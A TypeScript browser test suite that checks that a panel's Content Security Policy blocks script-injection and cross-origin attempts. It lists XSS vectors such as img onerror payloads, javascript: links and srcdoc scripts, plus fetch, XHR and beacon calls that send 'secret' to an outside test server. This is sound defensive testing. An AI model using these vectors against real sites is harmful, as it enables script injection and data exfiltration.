import assert from 'node:assert/strict';
import type { Page } from 'playwright-core';
import { startBrowser } from '../support/browser';
import { OutsideServer } from './support/outsideServer';
import { PanelHarness } from './support/panelPage';

interface Tools {
  /** A server of another origin. */
  readonly outside: string;
  /** To be called by whatever should not run. */
  readonly harm: string;
}

/** Runs inside the page, in a task of its own as the page's script would. */
type Attempt = (tools: Tools) => unknown;

const SCRIPT = 'script-src';
const TYPES = 'require-trusted-types-for';

/** What a script in the page could try, and the directive that has to stop it. */
const ATTEMPTS: Readonly<Record<string, readonly [directive: string, attempt: Attempt]>> = {
  // biome-ignore lint/security/noGlobalEval: that it can't be used is what is tried
  eval: [TYPES, ({ harm }) => globalThis.eval(harm)],
  'new Function': [TYPES, ({ harm }) => new Function(harm)()],
  'setTimeout of a string': [TYPES, ({ harm }) => setTimeout(harm)],
  innerHTML: [
    TYPES,
    ({ harm }) => {
      add('div').innerHTML = `<img src=x onerror=${harm}>`;
    },
  ],
  outerHTML: [
    TYPES,
    ({ harm }) => {
      add('div').outerHTML = `<img src=x onerror=${harm}>`;
    },
  ],
  insertAdjacentHTML: [TYPES, ({ harm }) => add('div').insertAdjacentHTML('beforeend', `<img src=x onerror=${harm}>`)],
  'document.write': [TYPES, ({ harm }) => document.write(`<script>${harm}</script>`)],
  DOMParser: [
    TYPES,
    ({ harm }) => {
      const { body } = new DOMParser().parseFromString(`<img src=x onerror=${harm}>`, 'text/html');
      document.body.append(...body.childNodes);
    },
  ],
  createContextualFragment: [
    TYPES,
    ({ harm }) => {
      const range = document.createRange();
      range.selectNodeContents(document.body);
      document.body.append(range.createContextualFragment(`<img src=x onerror=${harm}>`));
    },
  ],
  'a policy of another name': ['trusted-types', ({ harm }) => throughPolicy('other', harm)],
  'a policy of the same name': ['trusted-types', ({ harm }) => throughPolicy('lit-html', harm)],
  'another policy of the worker’s name': ['trusted-types', ({ harm }) => throughPolicy('code-colors', harm)],
  'a default policy': ['trusted-types', ({ harm }) => throughPolicy('default', harm)],
  'the text of a script element': [
    TYPES,
    ({ harm }) => {
      add('script').text = harm;
    },
  ],
  'an inline script element': [
    TYPES,
    ({ harm }) => {
      const script = document.createElement('script');
      script.append(harm);
      document.head.append(script);
    },
  ],
  'an inline script element in SVG': [
    TYPES,
    ({ harm }) => {
      const script = document.createElementNS('http://www.w3.org/2000/svg', 'script');
      script.append(harm);
      document.body.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'svg')).append(script);
    },
  ],
  'the address of a script element': [
    TYPES,
    ({ outside }) => {
      add('script').src = `${outside}/script.js`;
    },
  ],
  'an import from elsewhere': [SCRIPT, ({ outside }) => import(`${outside}/module.js`)],
  'a worker': [TYPES, ({ outside }) => new Worker(`${outside}/worker.js`)],
  'a worker from a blob': [
    TYPES,
    ({ outside }) => new Worker(URL.createObjectURL(new Blob([`fetch('${outside}/worker', { mode: 'no-cors' })`]))),
  ],
  'a worker from a data address': [
    TYPES,
    ({ outside }) => new Worker(`data:text/javascript,fetch('${outside}/data-worker', { mode: 'no-cors' })`),
  ],
  'a worker that is a module': [TYPES, ({ outside }) => new Worker(`${outside}/module-worker.js`, { type: 'module' })],
  'a shared worker': [TYPES, ({ outside }) => new SharedWorker(`${outside}/shared-worker.js`)],
  'a service worker': [TYPES, ({ outside }) => navigator.serviceWorker.register(`${outside}/service-worker.js`)],
  'an event handler attribute': [TYPES, ({ harm }) => add('p', { onclick: harm }).click()],
  'a link to a script': [SCRIPT, ({ harm }) => add('a', { href: `javascript:${harm}` }).click()],
  'a frame with a document of its own': [
    TYPES,
    ({ harm }) => add('iframe', { srcdoc: `<script>parent.${harm}</script>` }),
  ],
  'a style attribute': [
    'style-src',
    ({ outside }) => add('p', { style: `background: url(${outside}/style-attribute)` }),
  ],
  'a style element': [
    'style-src',
    ({ outside }) => {
      add('style').textContent = `@import '${outside}/style-element';`;
    },
  ],
  'a stylesheet from elsewhere': [
    'style-src',
    ({ outside }) => add('link', { rel: 'stylesheet', href: `${outside}/style.css` }),
  ],
  'a font from elsewhere': ['font-src', ({ outside }) => new FontFace('other', `url(${outside}/font.woff2)`).load()],
  fetch: ['connect-src', ({ outside }) => fetch(`${outside}/fetch`, { mode: 'no-cors' })],
  'fetch of the page’s own origin': ['connect-src', () => fetch('/own')],
  XMLHttpRequest: [
    'connect-src',
    ({ outside }) => {
      const request = new XMLHttpRequest();
      request.open('POST', `${outside}/xhr`);
      request.send('secret');
    },
  ],
  WebSocket: ['connect-src', ({ outside }) => new WebSocket(`${outside.replace('http', 'ws')}/socket`)],
  EventSource: ['connect-src', ({ outside }) => new EventSource(`${outside}/events`)],
  sendBeacon: ['connect-src', ({ outside }) => navigator.sendBeacon(`${outside}/beacon`, 'secret')],
  'the ping of a link': ['connect-src', ({ outside }) => add('a', { href: '#x', ping: `${outside}/ping` }).click()],
  'an image from elsewhere': ['img-src', ({ outside }) => add('img', { src: `${outside}/image.png` })],
  'an image of another size from elsewhere': [
    'img-src',
    ({ outside }) => add('img', { srcset: `${outside}/image2.png 2x` }),
  ],
  'an image from a data address': [
    'img-src',
    ({ harm }) => {
      const image = add('img', {
        src: 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7',
      });
      image.addEventListener('load', () => setTimeout(harm));
    },
  ],
  'an icon from elsewhere': ['img-src', ({ outside }) => add('input', { type: 'image', src: `${outside}/icon.png` })],
  'a background from elsewhere': [
    'img-src',
    ({ outside }) => {
      document.body.style.backgroundImage = `url(${outside}/background.png)`;
    },
  ],
  'a video from elsewhere': ['media-src', ({ outside }) => add('video', { src: `${outside}/video.mp4` })],
  'a sound from elsewhere': ['media-src', ({ outside }) => new Audio(`${outside}/sound.mp3`).load()],
  'a frame': ['frame-src', ({ outside }) => add('iframe', { src: `${outside}/frame` })],
  'an object': [TYPES, ({ outside }) => add('object', { data: `${outside}/object` })],
  'an embedded file': [TYPES, ({ outside }) => add('embed', { src: `${outside}/embed` })],
  'a form': ['form-action', ({ outside }) => add('form', { action: `${outside}/form` }).submit()],
  'a base address': [
    'base-uri',
    ({ outside, harm }) => {
      add('base', { href: `${outside}/elsewhere/` });
      if (document.baseURI.includes('elsewhere')) {
        setTimeout(harm);
      }
    },
  ],
};

declare function add<K extends keyof HTMLElementTagNameMap>(
  tag: K,
  attributes?: Readonly<Record<string, string>>,
): HTMLElementTagNameMap[K];
declare function throughPolicy(name: string, harm: string): void;

/** Puts into the page what the attempts have in common. */
function helpers(): void {
  Object.assign(window, {
    add: (tag: string, attributes: Readonly<Record<string, string>> = {}) => {
      const made = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) {
        made.setAttribute(name, value);
      }
      return document.body.appendChild(made);
    },
    throughPolicy: (name: string, harm: string) => {
      const { trustedTypes } = window as unknown as {
        readonly trustedTypes: {
          createPolicy(name: string, rules: object): { createHTML(html: string): string };
        };
      };
      const policy = trustedTypes.createPolicy(name, { createHTML: (html: string) => html });
      document.body.appendChild(document.createElement('div')).innerHTML = policy.createHTML(
        `<img src=x onerror=${harm}>`,
      );
    },
  });
}

interface Outcome {
  /** The directives that were broken. */
  readonly broken: readonly string[];
  readonly harmed: boolean;
}

const NOTHING: Outcome = { broken: [], harmed: false };

/** Makes an attempt, and gives it the time to be stopped or to get through. */
async function tried(page: Page, attempt: Attempt, outside: string): Promise<Outcome> {
  await page.evaluate(helpers);
  await page.evaluate(`window.attempt = ${attempt}`);
  return page.evaluate(async address => {
    const broken: string[] = [];
    let harmed = false;
    const globals = window as unknown as { readonly attempt: Attempt };
    Object.assign(window, {
      harm: () => {
        harmed = true;
      },
    });
    document.addEventListener('securitypolicyviolation', event => broken.push(event.effectiveDirective));
    await new Promise<void>(resolve => {
      setTimeout(() => {
        // Whether it throws, rejects or only does nothing is all the same.
        new Promise(start => start(globals.attempt({ outside: address, harm: 'harm()' }))).catch(() => {});
        setTimeout(resolve, 150);
      });
    });
    return { broken: broken.map(one => one.replace(/-(?:elem|attr)$/, '')), harmed };
  }, outside);
}

describe('the panel’s content security policy', function () {
  this.timeout(120_000);
  let harness: PanelHarness;
  let server: OutsideServer;
  let outside: string;

  before(async () => {
    harness = await PanelHarness.start();
    server = await OutsideServer.start();
    outside = server.origin;
  });
  beforeEach(() => server.forget());
  after(async () => {
    await harness?.stop();
    server?.stop();
  });

  for (const [name, [directive, attempt]] of Object.entries(ATTEMPTS)) {
    it(`stops ${name}`, async () => {
      const { page } = await harness.open();
      const address = page.url();
      const { broken, harmed } = await tried(page, attempt, outside);
      assert.ok(broken.includes(directive), `broken: ${broken}`);
      const { asked } = server;
      assert.deepEqual({ harmed, asked, stray: harness.strayRequests }, { harmed: false, asked: [], stray: [] });
      assert.equal(page.url().replace(/#x$/, ''), address);
      await page.close();
    });
  }

  it('is what stops them: without it they get through', async () => {
    const without: string[] = [];
    // Some leave their page without an end, and the browser with it.
    const browser = await startBrowser({ oneRenderer: true });
    for (const [name, [, attempt]] of Object.entries(ATTEMPTS)) {
      const page = await browser.newPage();
      await page.goto(`${outside}/`, { waitUntil: 'commit' });
      server.forget();
      // An attempt that leads the page elsewhere may leave it without an answer.
      const { broken, harmed } = await Promise.race([
        tried(page, attempt, outside).catch(() => NOTHING),
        new Promise<Outcome>(resolve => setTimeout(resolve, 5_000, NOTHING)),
      ]);
      assert.deepEqual(broken, [], name);
      if (!harmed && server.asked.length === 0 && page.url() === `${outside}/`) {
        without.push(name);
      }
      void page.close().catch(() => {});
    }
    await browser.close();
    assert.deepEqual(without, []);
  });
});
